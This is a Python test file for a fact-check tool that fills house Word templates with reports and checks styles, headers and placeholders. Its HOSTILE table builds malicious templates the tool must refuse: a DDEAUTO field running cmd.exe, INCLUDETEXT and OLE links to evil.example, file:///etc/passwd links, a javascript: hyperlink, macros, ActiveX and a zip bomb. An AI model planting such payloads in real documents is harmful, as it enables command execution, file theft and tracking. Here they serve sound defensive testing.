"""Reports in templates of the house: what stays of the template, what is added, and what is refused."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import docx
import pytest

from factcheck.domain.problems import Problem
from factcheck.domain.report import HouseTemplate, Report
from factcheck.formats.docx.lint import lint
from factcheck.formats.docx.template import Template, read_template
from tests.factories_drafts import drafts_report
from tests.factories_report import with_parts
from tests.factories_statements import statements_report
from tests.factories_torture import scripts_report, several_articles_report, torture_report
from tests.formats.docx.report.house_templates import (
    LOGO,
    TEMPLATES,
    Change,
    as_dotx,
    changed,
    linked,
    magazine,
    plain,
)
from tests.formats.docx.report.package import W, Written, written
from tests.validators.ecma import ecma_findings
from tests.validators.office import office_findings


def in_template(report: Report, path: Path, styles: tuple[tuple[str, str], ...] = (), **options: Any) -> Report:
    template = HouseTemplate(str(path), styles)
    return replace(report, options=replace(report.options, template=template, **options))


@pytest.mark.parametrize("name", TEMPLATES)
def test_every_judge_finds_a_report_in_a_template_sound(tmp_path: Path, name: str) -> None:
    template = TEMPLATES[name](tmp_path / name)
    reports = [statements_report(), drafts_report(), torture_report(), scripts_report(), several_articles_report()]
    files = []
    for number, report in enumerate(reports):
        more: dict[str, Any] = {"line_numbers": True, "remarks": "footnotes"} if number % 2 else {}
        seen = written(in_template(report, template, **more), tmp_path / f"{number}.docx")
        assert lint(seen.path) == []
        files.append(seen.path)
    assert office_findings(*files) == []
    assert ecma_findings(*files) == []


def test_the_text_header_and_logo_of_the_template_stay(tmp_path: Path) -> None:
    seen = written(in_template(statements_report(), magazine(tmp_path / "m.docx")), tmp_path / "report.docx")
    lines = [line for line in seen.lines if line]
    assert lines[0] == "For the eyes of the desk"
    assert lines[1] == "First rule of the house"
    assert lines[2] == "Fact-check report"
    assert lines[-1] == "Filed under: checks"
    assert "{{report}}" not in seen.text
    headers = [content.decode() for name, content in seen.members.items() if "header" in name and "rels" not in name]
    assert any("The Lakeside Review" in one for one in headers)
    assert LOGO in seen.members.values()
    document = docx.Document(str(seen.path))
    assert {round(section.page_width.mm) for section in document.sections if section.page_width} == {210}
    assert all("Lakeside Review" in section.header.paragraphs[0].text for section in document.sections)


def test_styles_of_the_template_are_used_and_missing_ones_made(tmp_path: Path) -> None:
    template = magazine(tmp_path / "m.docx")
    seen = written(in_template(statements_report(), template, (("Report Text", "House Text"),)), tmp_path / "r.docx")
    sheet = seen.part("word/styles.xml")
    names = [one.get(f"{W}val") for one in sheet.iter(f"{W}name")]
    assert len(names) == len({name.lower() for name in names if name})
    heading = next(one for one in sheet.iter(f"{W}style") if one.get(f"{W}styleId") == seen.style_ids["heading 1"])
    assert heading.find(f"{W}rPr/{W}color").get(f"{W}val") == "7A1F2B"  # type: ignore[union-attr] # the house's own
    assert seen.styled("heading 1")[0] == "Corrections"
    assert seen.styled("House Text")
    assert "Report Text" not in seen.style_ids
    made = next(one for one in sheet.iter(f"{W}style") if one.get(f"{W}styleId") == seen.style_ids["Report Fact"])
    assert made.find(f"{W}rPr/{W}rFonts") is None  # the house's face, not ours
    assert "Mark False" in seen.style_ids


def test_missing_styles_take_after_the_body_text_of_a_template_from_libreoffice(tmp_path: Path) -> None:
    """LibreOffice marks no style as the default, and gives the document a face that its body text does not have."""

    def unmarked(members: dict[str, bytes]) -> None:
        sheet = members["word/styles.xml"]
        assert b'w:default="1"' in sheet
        members["word/styles.xml"] = sheet.replace(b' w:default="1"', b"")

    template = changed(magazine(tmp_path / "m.docx").read_bytes(), tmp_path / "l.dotx", unmarked, as_dotx)
    seen = written(in_template(statements_report(), template), tmp_path / "report.docx")
    sheet = seen.part("word/styles.xml")
    bases = {
        one.get(f"{W}styleId"): one.find(f"{W}basedOn").get(f"{W}val")  # type: ignore[union-attr] # there they are
        for one in sheet.iter(f"{W}style")
        if one.find(f"{W}basedOn") is not None
    }
    for name in ("Report Evidence", "Report Fact", "Table Text"):
        assert bases.get(seen.style_ids[name]) == "Normal", name


def test_a_german_dotx_with_a_control_and_two_sections(tmp_path: Path) -> None:
    template = TEMPLATES["agency.dotx"](tmp_path / "a.dotx")
    seen = written(in_template(statements_report(), template), tmp_path / "report.docx")
    assert seen.style_ids["heading 1"] == "berschrift1"
    assert {one.get(f"{W}val") for one in seen.document.iter(f"{W}pStyle")} >= {"berschrift1", "Titel"}
    lines = [line for line in seen.lines if line]
    assert (lines[0], lines[-1]) == ("Deckblatt der Agentur", "Ende")
    assert "factcheck goes here" not in seen.text
    everything = b"".join(seen.members.values())
    assert b"evil.example" not in everything
    assert b"attachedTemplate" not in everything
    assert b"template.main" not in everything
    # The template's own two sections begin with the first page's header; no further part of the report does.
    assert len(list(seen.document.iter(f"{W}titlePg"))) == 2
    assert len(list(seen.document.iter(f"{W}sectPr"))) == 4


def test_without_a_placeholder_the_report_stands_behind_the_text(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("Before all")
    document.save(str(tmp_path / "t.docx"))
    seen = written(in_template(statements_report(), tmp_path / "t.docx"), tmp_path / "report.docx")
    assert seen.lines[0] == "Before all"
    assert "Sign-offs" in seen.text


def test_comments_of_a_template_stay_behind_and_its_lists_count_on(tmp_path: Path) -> None:
    document = docx.Document()
    run = document.add_paragraph("Fill in here", style="List Number").runs[0]
    document.add_comment(run, "What to write", author="House")
    document.save(str(tmp_path / "t.docx"))
    seen = written(in_template(torture_report(), tmp_path / "t.docx"), tmp_path / "report.docx")
    assert "What to write" not in seen.comment_texts
    assert lint(seen.path) == []
    numbering = seen.part("word/numbering.xml")
    ids = [one.get(f"{W}numId") for one in numbering.iter(f"{W}num")]
    assert len(ids) == len(set(ids))


def test_the_same_report_in_the_same_template_has_the_same_bytes(tmp_path: Path) -> None:
    report = in_template(statements_report(), magazine(tmp_path / "m.docx"))
    one, two = (written(report, tmp_path / f"{number}.docx").path.read_bytes() for number in (1, 2))
    assert one == two


def macros(members: dict[str, bytes]) -> None:
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"


def macro_template(members: dict[str, bytes]) -> None:
    types = members["[Content_Types].xml"].decode()
    macro = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    members["[Content_Types].xml"] = re.sub(r"application/[\w.-]+document\.main\+xml", macro, types).encode()


def control(members: dict[str, bytes]) -> None:
    members["word/activeX/activeX1.xml"] = b"<x/>"
    linked(members, "document", "control", "activeX/activeX1.xml", external=False)


def entities(members: dict[str, bytes]) -> None:
    source = members["word/document.xml"]
    end = source.index(b"?>") + 2
    members["word/document.xml"] = source[:end] + b'<!DOCTYPE w [<!ENTITY a "b">]>' + source[end:]


def field(instruction: str) -> Change:
    def change(members: dict[str, bytes]) -> None:
        cut = len(instruction) // 2
        runs = "".join(
            f'<w:r><w:instrText xml:space="preserve">{half}</w:instrText></w:r>'
            for half in (instruction[:cut], instruction[cut:])
        )
        marks = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
        made = f"<w:p>{marks('begin')}{runs}{marks('end')}</w:p>".encode()
        members["word/document.xml"] = members["word/document.xml"].replace(b"<w:body>", b"<w:body>" + made)

    return change


def link(kind: str, target: str) -> Change:
    return lambda members: linked(members, "document", kind, target)


def bomb(members: dict[str, bytes]) -> None:
    members["word/media/image1.png"] = b"\0" * (40 << 20)


HOSTILE: dict[str, Change] = {
    "macros": macros,
    "a macro template by its type": macro_template,
    "an ActiveX control": control,
    "entities": entities,
    "a DDE field": field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "),
    "a field that includes": field(' INCLUDETEXT "http://evil.example/x.docx" '),
    "a picture from elsewhere": link("image", "http://evil.example/pixel.png"),
    "a sub-document": link("subDocument", "file:///etc/passwd"),
    "an embedded object": link("oleObject", "http://evil.example/x.bin"),
    "another file as text": link("aFChunk", "http://evil.example/x.html"),
    "a script in a link": link("hyperlink", "javascript:alert(1)"),
    "a file in a link": link("hyperlink", "file:///etc/passwd"),
    "a bomb": bomb,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused_and_nothing_is_written(tmp_path: Path, name: str) -> None:
    source = plain(tmp_path / "plain.docx").read_bytes()
    template = changed(source, tmp_path / "t.docx", HOSTILE[name])
    with pytest.raises(Problem) as raised:
        written(in_template(statements_report(), template), tmp_path / "report.docx")
    assert raised.value.remedy
    assert not (tmp_path / "report.docx").exists()


@pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04 broken"])
def test_what_is_no_word_file_is_told(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "t.docx").write_bytes(content)
    with pytest.raises(Problem):
        read_template(tmp_path / "t.docx")
    with pytest.raises(Problem, match="nowhere"):
        read_template(tmp_path / "nowhere.docx")


def test_a_placeholder_in_a_table_is_told(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_table(1, 1).cell(0, 0).text = "{{report}}"
    document.save(str(tmp_path / "t.docx"))
    with pytest.raises(Problem, match="table"):
        read_template(tmp_path / "t.docx")


@pytest.mark.parametrize("words", ["{{report}}", "{Report}", "[REPORT]", "«factcheck»", " << report >> "])
def test_a_placeholder_is_found_as_people_write_it(words: str) -> None:
    document = docx.Document()
    paragraph = document.add_paragraph()
    for half in (words[:4], words[4:]):
        paragraph.add_run(half)
    saved = io.BytesIO()
    document.save(saved)
    assert Template(Path("t.docx"), saved.getvalue()).placeholder is not None


def test_a_part_of_a_report_in_a_template_can_stand_alone(tmp_path: Path) -> None:
    template = magazine(tmp_path / "m.docx")
    for part in ("article", "sources", "header"):
        seen = written(in_template(with_parts(statements_report(), part), template), tmp_path / "r.docx")
        assert isinstance(seen, Written)
        assert lint(seen.path) == []


def test_a_dotx_is_written_as_a_document(tmp_path: Path) -> None:
    template = changed(plain(tmp_path / "p.docx").read_bytes(), tmp_path / "t.dotx", as_dotx)
    seen = written(in_template(statements_report(), template), tmp_path / "report.docx")
    assert docx.Document(str(seen.path)).paragraphs
